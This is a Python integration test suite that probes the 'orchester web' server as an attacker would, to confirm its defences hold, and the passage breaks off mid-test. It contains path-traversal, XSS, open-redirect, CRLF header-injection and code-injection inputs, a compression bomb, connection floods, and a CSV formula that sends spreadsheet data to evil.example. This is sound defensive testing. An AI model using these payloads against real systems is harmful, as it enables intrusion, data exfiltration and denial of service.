"""``orchester web`` as an attacker sees it: each test is one attack on the running code.

The review that wrote this file found fourteen weaknesses (idle connections, history ranges,
malformed uploads, fit.json read back, per-client costs, the token in the cookie and the log,
cut result downloads, 413s, the data folder, formulas in CSV files, malformed results, static
files, the link's redirect, since=0); each test here is one attack, and each now shows the
defence holding.
"""

from __future__ import annotations

import asyncio
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import tornado.httpclient
import tornado.websocket
from conftest import FAST_HB, TEST_ENV, stop_processes
from test_web import EXAMPLES, TOKEN, WebCase, multipart

from orchester import LocalCluster
from orchester.web.app import COOKIE, Auth, make_app
from orchester.web.fits import FitStore

pytestmark = pytest.mark.integration
#: the session cookie a browser gets for the token (an HMAC of it, not the token)
SESSION = Auth(TOKEN).session


async def raw_exchange(port: int, request: bytes, *, read_for: float = 5.0, chunks: list[bytes] | None = None,
                       pause: float = 0.0, until: bytes | None = None) -> bytes:
    """Send ``request`` (then each of ``chunks``) on a plain TCP connection; what came back within ``read_for`` s
    (``until``: or as soon as what came back holds it)."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(request)
        await writer.drain()
        for c in chunks or []:
            if pause:
                await asyncio.sleep(pause)
            writer.write(c)
            try:
                await writer.drain()
            except (ConnectionError, OSError):
                break
        out = b""
        deadline = time.monotonic() + read_for
        while time.monotonic() < deadline:
            try:
                data = await asyncio.wait_for(reader.read(65536), max(0.01, deadline - time.monotonic()))
            except (TimeoutError, ConnectionError, OSError):
                break
            if not data:
                break
            out += data
            if until is not None and until in out:
                break
        return out
    finally:
        writer.close()


def status_of(response: bytes) -> int | None:
    m = re.match(rb"HTTP/1\.[01] (\d{3})", response)
    return int(m.group(1)) if m else None


# --------------------------------------------------------------------------------------------- access
class TestAccess(WebCase):
    def test_every_method_needs_the_token(self) -> None:
        for method in ("HEAD", "OPTIONS", "PUT", "DELETE", "PATCH"):
            for path in ("/api/status", "/api/fits", "/", "/nowhere", "/api/tasks/x/result"):
                kw: dict[str, Any] = {"body": b""} if method in ("PUT", "PATCH") else {}
                if method == "DELETE":
                    kw["allow_nonstandard_methods"] = True
                r = self.fetch(path, method=method, raise_error=False, **kw)
                assert r.code == 403, (method, path, r.code)

    def test_static_files_need_the_token(self) -> None:
        for path in ("/bokeh/bokeh.min.js", "/static/orchester.js"):
            assert self.fetch(path, raise_error=False).code == 403, path

    def test_static_handlers_stay_in_their_folders(self) -> None:
        for path in ("/bokeh/..%2f..%2f..%2f__init__.py", "/bokeh/%2e%2e/%2e%2e/__init__.py", "/static/..%2fapp.py",
                     "/static/%2e%2e/app.py", "/bokeh//etc/passwd"):
            r = self.fetch(path, raise_error=False)
            assert r.code in (403, 404), (path, r.code)
            assert b"import" not in r.body and b"root:" not in r.body, path

    def test_a_wrong_token_in_every_place_is_refused(self) -> None:
        for headers, path in (({"Authorization": "token " + TOKEN[:-1]}, "/api/status"),
                              ({"Authorization": "token " + TOKEN + "x"}, "/api/status"),
                              ({"Authorization": "Bearer " + TOKEN}, "/api/status"),
                              ({"Authorization": "token \u00e9" + TOKEN}, "/api/status"),
                              ({"Cookie": f"{COOKIE}={TOKEN[:-1]}"}, "/api/status"),
                              ({"Cookie": f'{COOKIE}="{TOKEN}\\""'}, "/api/status"),
                              ({}, f"/api/status?token={TOKEN[:-1]}"),
                              ({}, "/api/status?token=")):
            r = self.fetch(path, headers=headers, raise_error=False)
            assert r.code == 403, (headers, path, r.code)

    def test_the_link_redirect_stays_on_this_server(self) -> None:
        r = self.fetch(f"//evil.example/?token={TOKEN}", follow_redirects=False, raise_error=False)
        location = r.headers.get("Location", "")
        assert not location.startswith("//") and not location.startswith("/\\"), location

    def test_a_task_id_in_the_page_address_is_escaped(self) -> None:
        evil = "<img src=x onerror=alert(1)></script><script>alert(2)</script><!--<script>"
        from urllib.parse import quote

        r = self.fetch(f"/tasks/{quote(evil, safe='')}", headers={"Authorization": f"token {TOKEN}"},
                       raise_error=False)
        assert r.code == 200
        html, _, script = r.body.partition(b"<script>Orchester.task(")
        assert b"<img" not in html and b"&lt;img src=x" in html  # the heading: escaped
        arg = script.split(b");</script>", 1)[0]  # the task id as the page's script reads it
        assert b"<" not in arg and b"\\u003c\\/script>" in arg  # no tag, no comment, no way out of the string

    def test_error_pages_escape_what_they_echo(self) -> None:
        r = self.fetch("/tasks/%ff%3Cb%3E", headers={"Authorization": f"token {TOKEN}"}, raise_error=False)
        assert r.code in (200, 400) and b"<b>" not in r.body
        r = self.fetch("/api/tasks?state=%3Cscript%3E", headers={"Authorization": f"token {TOKEN}"}, raise_error=False)
        assert r.code == 400 and r.headers["Content-Type"].startswith("application/json")

    def test_a_browser_form_post_from_elsewhere_is_refused(self) -> None:
        """A plain form (no header): even with a cookie tossed from another port (cookies ignore ports)."""
        ctype, body = multipart([("a.hgx", b"x")], {"_xsrf": "2|aaaa|bbbb|1"})
        for headers in ({"Cookie": f"{COOKIE}={SESSION}", "Content-Type": ctype},
                        {"Cookie": f"{COOKIE}={SESSION}; _xsrf=2|aaaa|bbbb|1", "Content-Type": ctype},
                        {"Cookie": f"{COOKIE}={SESSION}", "Content-Type": "application/x-www-form-urlencoded"},
                        {"Cookie": f"{COOKIE}={SESSION}", "Content-Type": "text/plain"}):
            r = self.fetch("/api/fits", method="POST", body=body, headers=headers, raise_error=False)
            assert r.code == 403, (headers, r.code)
        assert self.fits.fits == {}

    def test_websockets_from_another_origin_are_refused(self) -> None:
        async def code(origin: str | None, cookie: bool) -> int:
            headers = {"Cookie": f"{COOKIE}={SESSION}"} if cookie else {"Authorization": f"token {TOKEN}"}
            if origin is not None:
                headers["Origin"] = origin
            req = tornado.httpclient.HTTPRequest(f"ws://127.0.0.1:{self.get_http_port()}/ws", headers=headers)
            try:
                ws = await tornado.websocket.websocket_connect(req)
            except tornado.httpclient.HTTPClientError as exc:
                return exc.code
            ws.close()
            return 101

        port = self.get_http_port()
        for origin in ("null", "http://127.0.0.1:1", f"http://127.0.0.1.evil.example:{port}", "file://",
                       f"http://localhost:{port}"):
            assert self.io_loop.run_sync(lambda o=origin: code(o, True), timeout=30) == 403, origin
        assert self.io_loop.run_sync(lambda: code(f"http://127.0.0.1:{port}", True), timeout=30) == 101
        async def no_token() -> int:
            req = tornado.httpclient.HTTPRequest(f"ws://127.0.0.1:{self.get_http_port()}/ws")
            try:
                await tornado.websocket.websocket_connect(req)
            except tornado.httpclient.HTTPClientError as exc:
                return exc.code
            return 101

        assert self.io_loop.run_sync(no_token, timeout=30) == 403


# --------------------------------------------------------------------------------------------- uploads
class TestUploads(WebCase):
    def test_a_malformed_multipart_body_is_a_400(self) -> None:
        for ctype, body in (("multipart/form-data", b"x"),
                            ("multipart/form-data; boundary=abc", b"--abc\r\nno end"),
                            ("multipart/form-data; boundary=abc", b"--abc\r\n\r\n--abc--\r\n")):
            for path in ("/api/fits", "/api/models"):
                r = self.fetch_api(path, method="POST", body=body, headers={"Content-Type": ctype})
                assert r.code == 400, (path, ctype, body, r.code, r.body[:200])

    def test_a_file_name_that_is_not_utf8_is_a_400(self) -> None:
        b = b"----x"
        body = (b"--" + b + b'\r\nContent-Disposition: form-data; name="model"; filename="\xe9.hgx"\r\n\r\nabc\r\n--'
                + b + b"--\r\n")
        r = self.fetch_api("/api/fits", method="POST", body=body,
                           headers={"Content-Type": "multipart/form-data; boundary=----x"})
        assert r.code == 400, (r.code, r.body[:200])

    def test_the_documented_hundred_models_are_not_a_500(self) -> None:
        for files, fields in (([(f"m{i}.hgx", b"x") for i in range(99)], {"seed": "1"}),
                              ([(f"m{i}.hgx", b"x") for i in range(100)], {}),
                              ([(f"m{i}.hgx", b"x") for i in range(150)], {})):
            ctype, data = multipart(files, fields)
            r = self.fetch_api("/api/fits", method="POST", body=data, headers={"Content-Type": ctype})
            assert r.code == 400, (len(files), r.code, r.body[:200])

    def test_a_chunked_upload_over_the_limit_gets_413(self) -> None:
        from test_web import MAX_UPLOAD

        ctype, data = multipart([("big.hgx", b"\0" * (MAX_UPLOAD + 100_000))])
        head = (f"POST /api/fits HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: token {TOKEN}\r\n"
                f"Content-Type: {ctype}\r\nTransfer-Encoding: chunked\r\n\r\n").encode()
        pieces = [data[i:i + 32768] for i in range(0, len(data), 32768)]
        chunks = [b"%x\r\n%s\r\n" % (len(p), p) for p in pieces] + [b"0\r\n\r\n"]
        out = self.io_loop.run_sync(lambda: raw_exchange(self.get_http_port(), head, chunks=chunks, read_for=10,
                                                         until=b"\r\n\r\n"), timeout=60)
        assert status_of(out) == 413, out[:300]

    def test_a_chunked_upload_under_the_limit_is_checked(self) -> None:
        ctype, data = multipart([("notes.hgx", b"hello")])
        head = (f"POST /api/fits HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: token {TOKEN}\r\n"
                f"Content-Type: {ctype}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n").encode()
        out = self.io_loop.run_sync(lambda: raw_exchange(self.get_http_port(), head,
                                                         chunks=[b"%x\r\n%s\r\n" % (len(data), data), b"0\r\n\r\n"]),
                                    timeout=60)
        assert status_of(out) == 400 and b"not an HDF5 file" in out

    def test_a_lying_content_length_gets_413_before_the_body(self) -> None:
        for length in ("99999999999999999999", "-1", "1e9", "+5", "0x10"):
            head = (f"POST /api/fits HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: token {TOKEN}\r\n"
                    f"Content-Type: multipart/form-data; boundary=x\r\nContent-Length: {length}\r\n\r\n").encode()
            out = self.io_loop.run_sync(lambda h=head: raw_exchange(self.get_http_port(), h, read_for=3), timeout=30)
            assert status_of(out) in (400, 413), (length, out[:200])

    def test_a_compression_bomb_is_refused_and_nothing_runs(self) -> None:
        """An .hgx whose parameter grid unpacks to gigabytes (gzip): the child hits its limits; a 400."""
        import h5py
        import numpy as np

        path = self.data / "bomb.hgx"
        with h5py.File(path, "w") as f:
            cur = f.create_group("current")
            cur["script"] = "import models.spec_nx as model\n"
            cur.create_group("data/datasets/0")
            cur["data/datasets/0/x"] = np.zeros(3)
            cur["data/datasets/0/y"] = np.zeros(3)
            grid = cur.create_group("parameters")
            grid["data_labels"] = np.array([b"a"])
            rows = 100_000
            grid.create_dataset("data col 0", shape=(rows,), dtype="S40000", chunks=(64,), compression="gzip",
                                compression_opts=9, fillvalue=b"\0")
            grid["data col 0"][0:64] = np.full(64, b"a" * 39999, dtype="S40000")
            for i in (1, 2, 3, 4, 5):
                grid.create_dataset(f"data col {i}", data=np.zeros(rows), compression="gzip")
        body = path.read_bytes()
        assert len(body) < 280_000, len(body)
        ctype, data = multipart([("bomb.hgx", body)])
        started = time.monotonic()
        r = self.json_of("/api/fits", 400, method="POST", body=data, headers={"Content-Type": ctype})
        assert "bomb.hgx" in r["error"] and time.monotonic() - started < 60
        assert self.fits.fits == {}

    def test_settings_fields_cannot_inject(self) -> None:
        model = (EXAMPLES / "nickel_film.hgx").read_bytes()
        for field, value in (("generations", "1e9"), ("generations", "100001"), ("population", "10001"),
                             ("km", "nan"), ("kr", "inf"), ("seed", str(2**32)), ("method", "__import__('os')"),
                             ("max_evaluations", "0")):
            ctype, data = multipart([("nickel_film.hgx", model)], {field: value})
            r = self.fetch_api("/api/fits", method="POST", body=data, headers={"Content-Type": ctype})
            assert r.code == 400, (field, value, r.code)
        assert self.fits.fits == {}


# --------------------------------------------------------------------------------------------- resources
async def loop_stall(during: Any, tick: float = 0.01) -> tuple[Any, float]:
    """Run the awaitable ``during``; the longest the event loop went without running a 10 ms timer meanwhile."""
    worst = 0.0
    stop = False

    async def watch() -> None:
        nonlocal worst
        last = time.monotonic()
        while not stop:
            await asyncio.sleep(tick)
            now = time.monotonic()
            worst = max(worst, now - last - tick)
            last = now

    watcher = asyncio.ensure_future(watch())
    try:
        result = await during
    finally:
        stop = True
        await watcher
    return result, worst


class TestResources(WebCase):
    def test_websockets_per_process_are_bounded(self) -> None:
        async def go() -> tuple[int, int]:
            opened, refused = [], 0
            for _ in range(300):
                req = tornado.httpclient.HTTPRequest(f"ws://127.0.0.1:{self.get_http_port()}/ws",
                                                     headers={"Authorization": f"token {TOKEN}"})
                try:
                    opened.append(await tornado.websocket.websocket_connect(req))
                except (tornado.httpclient.HTTPClientError, tornado.websocket.WebSocketClosedError):
                    refused += 1
            await asyncio.sleep(0.3)
            live = len(self.hub.subscribers)
            for ws in opened:
                ws.close()
            return live, refused

        live, refused = self.io_loop.run_sync(go, timeout=120)
        assert refused > 0 and live < 300, (live, refused)

    def test_many_browsers_and_a_burst_of_events_do_not_stall_the_web_process(self) -> None:
        """150 websockets that never read (a raw handshake, then silence); 2000 task events in one go,
        through the hub's own event path; the longest the event loop then goes without a turn."""
        from serializers import pack

        async def go() -> float:
            port = self.get_http_port()
            sockets = []
            for _ in range(150):
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
                writer.write(f"GET /ws?topics=task: HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\n"
                             f"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
                             f"Sec-WebSocket-Version: 13\r\nAuthorization: token {TOKEN}\r\n\r\n".encode())
                assert b" 101 " in await reader.readuntil(b"\r\n\r\n")
                sockets.append(writer)
            await asyncio.sleep(0.3)
            assert len(self.hub.subscribers) >= 150

            async def burst() -> None:
                for i in range(2000):  # what a busy bus publishes in a fraction of a second
                    self.hub._event([f"task:{i:032x}".encode(),
                                     pack({"state": "done", "sat": "local-0", "attempt": 1, "t": time.time()})])
                await asyncio.sleep(1.5)

            _, worst = await loop_stall(burst())
            for w in sockets:
                w.close()
            return worst

        worst = self.io_loop.run_sync(go, timeout=300)
        assert worst < 0.5, f"the event loop stalled for {worst:.2f} s"


class TestHistoryRange(WebCase):
    """Roll-ups over a long range (this class's cluster keeps a journal)."""

    @classmethod
    def setUpClass(cls) -> None:
        cls.journal = Path(tempfile.mkdtemp(prefix="orchester-web-attack-journal-"))
        cls.cluster = LocalCluster(satellites=1, workers=2, tasks=["orchester_test_tasks"], heartbeat_interval=FAST_HB,
                                   liveness=3, env=TEST_ENV, log_level="WARNING",
                                   serve_args=["--journal", str(cls.journal / "j")]).start()

    @classmethod
    def tearDownClass(cls) -> None:
        super().tearDownClass()
        shutil.rmtree(cls.journal, ignore_errors=True)

    def test_a_long_history_range_does_not_stall_everyones_history(self) -> None:
        async def go() -> tuple[int, float]:
            http = self.get_http_client()
            headers = {"Authorization": f"token {TOKEN}"}
            port = self.get_http_port()
            # years 1970 to ~2350: within what the page accepts (up to the year 9999)
            big = asyncio.ensure_future(http.fetch(f"http://127.0.0.1:{port}/api/history?since=1&until=1.2e10",
                                                   headers=headers, raise_error=False, request_timeout=120))
            await asyncio.sleep(1.0)
            started = time.monotonic()
            r = await http.fetch(f"http://127.0.0.1:{port}/api/tasks?limit=1", headers=headers, raise_error=False,
                                 request_timeout=120)
            took = time.monotonic() - started
            await big
            http.close()
            return r.code, took

        code, took = self.io_loop.run_sync(go, timeout=240)
        assert code == 200 and took < 5.0, (code, took)

    def test_a_long_history_range_does_not_stall_the_web_process(self) -> None:
        async def go() -> tuple[int, float]:
            http = self.get_http_client()
            req = http.fetch(f"http://127.0.0.1:{self.get_http_port()}/api/history?since=1&until=6e9",
                             headers={"Authorization": f"token {TOKEN}"}, raise_error=False, request_timeout=120)
            r, worst = await loop_stall(req)
            http.close()
            return r.code, worst

        code, worst = self.io_loop.run_sync(go, timeout=240)
        assert code in (200, 400) and worst < 0.5, (code, worst)

    def test_since_zero_is_the_epoch(self) -> None:
        h = self.json_of("/api/history?since=0&until=172800&step=86400")
        assert h["since"] == 0 and len(h["buckets"]) == 2, (h["since"], len(h["buckets"]))


# --------------------------------------------------------------------------------------------- the real process
@pytest.fixture(scope="module")
def attack_cluster() -> Iterator[LocalCluster]:
    with LocalCluster(satellites=1, workers=1, tasks=["orchester_test_tasks"], heartbeat_interval=FAST_HB,
                      liveness=3, env=TEST_ENV, log_level="WARNING") as c:
        yield c


class WebProcess:
    """``orchester web`` as its own process (the production server settings of orchester.web.server)."""

    def __init__(self, cluster: LocalCluster, data: Path, *extra: str, nofile: int | None = None) -> None:
        import resource

        def limits() -> None:
            if nofile is not None:
                resource.setrlimit(resource.RLIMIT_NOFILE, (nofile, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))

        data.mkdir(parents=True, exist_ok=True, mode=0o700)
        self.log = data.parent / f"{data.name}-{time.monotonic_ns()}.log"  # never a pipe nobody reads
        with open(self.log, "wb") as err:
            self.proc = subprocess.Popen(
                [sys.executable, "-m", "orchester", "web", "--connect", cluster.endpoint, "--bind", "127.0.0.1:0",
                 "--data-dir", str(data), *extra],
                stdout=subprocess.PIPE, stderr=err, env={**os.environ, **TEST_ENV}, preexec_fn=limits)
        assert self.proc.stdout is not None
        line = self.proc.stdout.readline().decode()
        m = re.search(r"http://127\.0\.0\.1:(\d+)/\?token=([0-9a-f]+)", line)
        assert m, (line, self.log.read_bytes()[-2000:])
        self.port, self.token = int(m.group(1)), m.group(2)

    def get(self, path: str, timeout: float = 10.0) -> tuple[int, bytes]:
        import urllib.error
        import urllib.request

        req = urllib.request.Request(f"http://127.0.0.1:{self.port}{path}",
                                     headers={"Authorization": f"token {self.token}"})
        try:
            with urllib.request.urlopen(req, timeout=timeout) as r:
                return r.status, r.read()
        except urllib.error.HTTPError as exc:
            return exc.code, exc.read()

    def post(self, path: str, body: bytes, ctype: str, timeout: float = 60.0) -> tuple[int, bytes]:
        import urllib.error
        import urllib.request

        req = urllib.request.Request(f"http://127.0.0.1:{self.port}{path}", data=body, method="POST",
                                     headers={"Authorization": f"token {self.token}", "Content-Type": ctype})
        try:
            with urllib.request.urlopen(req, timeout=timeout) as r:
                return r.status, r.read()
        except urllib.error.HTTPError as exc:
            return exc.code, exc.read()

    def cpu(self) -> float:
        """CPU seconds the process has used."""
        fields = Path(f"/proc/{self.proc.pid}/stat").read_text().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def stop(self) -> bytes:
        stop_processes([self.proc])  # type: ignore[list-item]
        return self.log.read_bytes()


def test_idle_connections_without_a_token_cannot_lock_the_owner_out(attack_cluster: LocalCluster,
                                                                    tmp_path: Path) -> None:
    web = WebProcess(attack_cluster, tmp_path / "web", nofile=1024)  # a usual soft limit of open files
    idle: list[socket.socket] = []
    try:
        assert web.get("/api/status")[0] == 200
        for _ in range(1100):  # nothing sent: no token, no request
            s = socket.create_connection(("127.0.0.1", web.port))
            s.sendall(b"GET / HTTP/1.1\r\n")
            idle.append(s)
        time.sleep(2)
        logged = web.log.stat().st_size
        time.sleep(3)
        try:
            code = web.get("/api/status", timeout=5)[0]
        except OSError as exc:
            code = f"{type(exc).__name__}: {exc}"  # type: ignore[assignment]
        grew = web.log.stat().st_size - logged  # today: tracebacks of EMFILE, megabytes a second
        assert code == 200 and grew < 1_000_000, (code, grew)
    finally:
        for s in idle:
            s.close()
        web.stop()


def test_a_half_sent_request_is_dropped(attack_cluster: LocalCluster, tmp_path: Path) -> None:
    web = WebProcess(attack_cluster, tmp_path / "web", "--idle-timeout", "2")  # (15 s by default)
    try:
        s = socket.create_connection(("127.0.0.1", web.port))
        s.sendall(b"GET /api/status HTTP/1.1\r\nHost: x\r\n")  # and never the end of the headers
        s.settimeout(20)
        t0 = time.monotonic()
        try:
            closed = s.recv(1024) == b""
        except TimeoutError:
            closed = False
        s.close()
        assert closed, "the server still holds the connection after 20 s"
        assert time.monotonic() - t0 >= 1.5  # (closed by the idle timeout, not at once)
    finally:
        web.stop()


def test_an_upload_over_the_limit_gets_a_readable_413(attack_cluster: LocalCluster, tmp_path: Path) -> None:
    web = WebProcess(attack_cluster, tmp_path / "web", "--max-upload", "1MB")
    try:
        ctype, data = multipart([("big.hgx", b"\0" * 50_000_000)])
        try:
            code, body = web.post("/api/fits", data, ctype)
        except OSError as exc:
            code, body = 0, repr(exc).encode()
        assert code == 413 and b"limit" in body, (code, body[:200])
    finally:
        web.stop()


def test_a_killed_web_process_costs_the_bus_nothing(attack_cluster: LocalCluster, tmp_path: Path) -> None:
    """SIGKILL right after the upload; a new process on the same folder finds the fit, and it ends."""
    import signal

    web = WebProcess(attack_cluster, tmp_path / "web")
    model = (EXAMPLES / "nickel_film.hgx").read_bytes()
    ctype, data = multipart([("nickel_film.hgx", model)], {"generations": "3", "population": "8"})
    code, body = web.post("/api/fits", data, ctype)
    assert code == 201, body
    fid = json.loads(body)["fits"][0]["id"]
    web.proc.send_signal(signal.SIGKILL)
    web.proc.wait(10)
    web.stop()
    folder = tmp_path / "web" / "fits" / fid
    assert oct(folder.stat().st_mode & 0o777) == "0o700"
    again = WebProcess(attack_cluster, tmp_path / "web")
    try:
        deadline = time.monotonic() + 240
        while time.monotonic() < deadline:
            fit = json.loads(again.get(f"/api/fits/{fid}")[1])
            if fit["state"] in ("done", "failed"):
                break
            time.sleep(0.3)
        assert fit["state"] == "done", fit["error"]
        assert not [p for p in folder.rglob("*") if p.name.endswith(".part")]
        for p in [folder, *folder.rglob("*")]:
            assert not p.stat().st_mode & 0o077 or not folder.stat().st_mode & 0o077, p  # inside a 0700 folder
    finally:
        again.stop()


# --------------------------------------------------------------------------------------------- fit folders
def _fit_record(fid: str, **fields: Any) -> dict[str, Any]:
    base = {"id": fid, "name": "m", "file": "m.hgx", "settings": {"generations": 3}, "state": "done",
            "submitted": 1.0, "finished": 2.0, "files": ["m.csv"]}
    base.update(fields)
    return base


def _plant(root: Path, record: Any, fid: str | None = None, raw: bytes | None = None) -> str:
    fid = fid or (record["id"] if isinstance(record, dict) else "a" * 32)
    folder = root / fid
    folder.mkdir(parents=True, mode=0o700)
    (folder / "fit.json").write_bytes(raw if raw is not None else json.dumps(record).encode())
    return fid


class _NoClient:
    """A bus client that must never be asked (read-back of finished fits only)."""


@pytest.mark.parametrize("bad", [
    pytest.param({"files": None}, id="files-null"),
    pytest.param({"files": 5}, id="files-number"),
    pytest.param("deep", id="nested-json"),
])
def test_a_damaged_fit_json_is_skipped_not_fatal(tmp_path: Path, bad: Any) -> None:
    root = tmp_path / "fits"
    good = _plant(root, _fit_record("b" * 32))
    if bad == "deep":
        _plant(root, None, "c" * 32, raw=b"[" * 200_000 + b"]" * 200_000)
    else:
        _plant(root, _fit_record("c" * 32, **bad))
    store = FitStore(root, _NoClient())  # type: ignore[arg-type]
    assert store.load() == 1 and list(store.fits) == [good]


def test_a_fit_json_naming_a_path_outside_is_refused(tmp_path: Path) -> None:
    root = tmp_path / "fits"
    _plant(root, _fit_record("d" * 32, name="../../../../outside", state="done"))
    _plant(root, _fit_record("e" * 32, name="ok", files=["a\r\nSet-Cookie: x=y", "b\0"]))
    store = FitStore(root, _NoClient())  # type: ignore[arg-type]
    store.load()
    assert store.fits == {}, {k: (f.name, f.files) for k, f in store.fits.items()}


class TestFitFolders(WebCase):
    def test_one_odd_fit_json_does_not_break_the_list(self) -> None:
        _plant(self.data / "fits", _fit_record("f" * 32, submitted="yesterday"))
        _plant(self.data / "fits", _fit_record("1" * 32, submitted=5.0))
        self.fits.load()
        r = self.fetch_api("/api/fits")
        assert r.code == 200, (r.code, r.body[:200])

    def test_odd_file_names_in_fit_json_are_not_a_500(self) -> None:
        fid = _plant(self.data / "fits", _fit_record("2" * 32, files=['a".csv', "b\x01.csv", "c\0.csv"]))
        out = self.data / "fits" / fid / "out"
        out.mkdir()
        for name in ('a".csv', "b\x01.csv"):
            (out / name).write_text("x")
        self.fits.load()
        from urllib.parse import quote

        for name in ('a".csv', "b\x01.csv", "c\0.csv"):
            r = self.fetch_api(f"/api/fits/{fid}/files/{quote(name, safe='')}")
            assert r.code in (200, 404), (name, r.code)
            assert "\n" not in r.headers.get("Content-Disposition", "")


class TestResults(WebCase):
    def test_a_result_download_is_whole_or_refused(self) -> None:
        big = list(range(25_000))
        keys = {f"k{i}": i for i in range(1500)}
        tid = self.submit(("echo", (big,), {}))[0]
        tid2 = self.submit(("echo", (keys,), {}))[0]
        for t, expected in ((tid, big), (tid2, keys)):
            r = self.fetch_api(f"/api/tasks/{t}/result")
            assert r.code == 200
            got = json.loads(r.body)
            assert got == expected or r.code != 200, (type(got), len(got))

    def test_fit_csv_downloads_carry_no_formula(self) -> None:
        import h5py

        path = self.data / "formula.hgx"
        shutil.copy(EXAMPLES / "nickel_film.hgx", path)
        with h5py.File(path, "r+") as f:
            del f["current/data/datasets/0/name"]
            f["current/data/datasets/0/name"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        ctype, data = multipart([("formula.hgx", path.read_bytes())], {"generations": "2", "population": "8"})
        fid = self.json_of("/api/fits", 201, method="POST", body=data, headers={"Content-Type": ctype})["fits"][0]["id"]
        deadline = time.monotonic() + 240
        while time.monotonic() < deadline:
            fit = self.json_of(f"/api/fits/{fid}")
            if fit["state"] in ("done", "failed"):
                break
            self.io_loop.run_sync(lambda: asyncio.sleep(0.3))
        assert fit["state"] == "done", fit["error"]
        import csv
        import io

        body = self.fetch_api(f"/api/fits/{fid}/files/formula.csv").body.decode()
        cells = [c for row in csv.reader(io.StringIO(body)) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@")], [c for c in cells if c[:1] == "="][:1]


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give a folder to another uid")
def test_a_fits_folder_another_user_owns_is_refused(tmp_path: Path) -> None:
    root = tmp_path / "data" / "fits"
    root.mkdir(parents=True)
    os.chown(root, 65534, 65534)
    root.chmod(0o777)
    with pytest.raises(Exception):  # noqa: B017 (any refusal will do)
        FitStore(root, _NoClient())  # type: ignore[arg-type]


def test_a_result_of_the_wrong_shape_ends_the_fit(tmp_path: Path) -> None:
    from orchester.web.fits import WebFit

    result = {"datasets": [{"name": "d", "x": [0.1, 0.2], "y": [1.0, 0.5], "error": [0.1, 0.1], "y_sim": [1.0, 0.5]}],
              "parameters": [{"name": "p", "value": 1.0, "min": 0, "max": 2, "error": None}],
              "fom_history": [[0, 1.0], [1, 0.5]], "model": b"x", "fom": 0.5, "fom_name": "chi2",
              "generations": "many", "seconds": 1.0}

    async def go() -> str:
        store = FitStore(tmp_path / "fits", _NoClient())  # type: ignore[arg-type]
        fit = WebFit("a" * 32, "m", "m.hgx", {"generations": 2}, state="running")
        (store.root / fit.id).mkdir()
        store.fits[fit.id] = fit
        fut = asyncio.get_running_loop().create_future()
        fut.set_result(result)
        try:
            await store._wait(fit, fut)
        except ValueError:
            pass  # today: it escapes (the task that follows the fit dies), and the fit stays 'running'
        return fit.state

    assert asyncio.run(go()) in ("done", "failed")


# --------------------------------------------------------------------------------------------- bind, TLS, cookies
def test_the_bind_rule_holds_for_odd_addresses(tmp_path: Path) -> None:
    from orchester.web.server import WebConfigError, WebOptions

    for bind in ("localhost.evil.example:80", "0:8080", "0.0.0.0:8080", "[::]:8080", "[::ffff:0.0.0.0]:80",
                 "127.0.0.1.nip.io:80", "LOCALHOST.:80", "2130706433:80", "0x7f000001:80", "127.1:80",
                 "[fe80::1%lo]:80", "example.org:443", " 127.0.0.1:80", "[127.0.0.1]x:80"):
        with pytest.raises(WebConfigError):
            WebOptions(bind=bind).check()
    for bind in ("127.0.0.1:0", "[::1]:0", "localhost:0", "127.0.0.2:0"):
        WebOptions(bind=bind).check()


class TestCookies(WebCase):
    def test_the_link_cookie_is_http_only_and_strict(self) -> None:
        r = self.fetch(f"/?token={TOKEN}", follow_redirects=False, raise_error=False)
        cookie = [c for c in r.headers.get_list("Set-Cookie") if c.startswith(COOKIE + "=")][0]
        assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Path=/" in cookie

    def test_the_cookie_is_not_the_token(self) -> None:
        r = self.fetch(f"/?token={TOKEN}", follow_redirects=False, raise_error=False)
        cookie = [c for c in r.headers.get_list("Set-Cookie") if c.startswith(COOKIE + "=")][0]
        value = cookie.split(";")[0].split("=", 1)[1]
        assert value != TOKEN
        assert self.fetch("/api/status", headers={"Authorization": f"token {value}"}, raise_error=False).code == 403

    def test_a_tasks_csv_carries_no_formula(self) -> None:
        import csv
        import io

        async def go() -> None:  # never runs (no satellite has the tags): a pending row is enough
            self.client.submit_nowait("echo", 1, tags=["=1+2", "-3+4", "@x"])
            await asyncio.sleep(0.5)

        self.io_loop.run_sync(go, timeout=30)
        self.submit(("fail", ("=HYPERLINK(1)",), {}), ("fail", ("@SUM(1)",), {}))
        body = self.fetch_api("/api/tasks?format=csv&limit=1000").body.decode()
        rows = list(csv.reader(io.StringIO(body)))[1:]
        assert len(rows) >= 2
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())], rows


def test_the_token_is_never_written_to_the_log(attack_cluster: LocalCluster, tmp_path: Path) -> None:
    import urllib.error
    import urllib.request

    web = WebProcess(attack_cluster, tmp_path / "web")
    try:
        opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor())
        assert opener.open(f"http://127.0.0.1:{web.port}/?token={web.token}", timeout=10).status == 200
        with pytest.raises(urllib.error.HTTPError):
            urllib.request.urlopen(f"http://127.0.0.1:{web.port}/api/fits/{'0' * 32}?token={web.token}", timeout=10)
        time.sleep(0.5)
    finally:
        log = web.stop().decode()
    assert web.token not in log, [line for line in log.splitlines() if web.token in line][:2]


class TestRequestBudget(WebCase):
    def test_one_script_cannot_spend_everyones_request_budget(self) -> None:
        async def go() -> tuple[list[int], int]:
            http = tornado.httpclient.AsyncHTTPClient(force_instance=True, max_clients=100)
            base = f"http://127.0.0.1:{self.get_http_port()}"
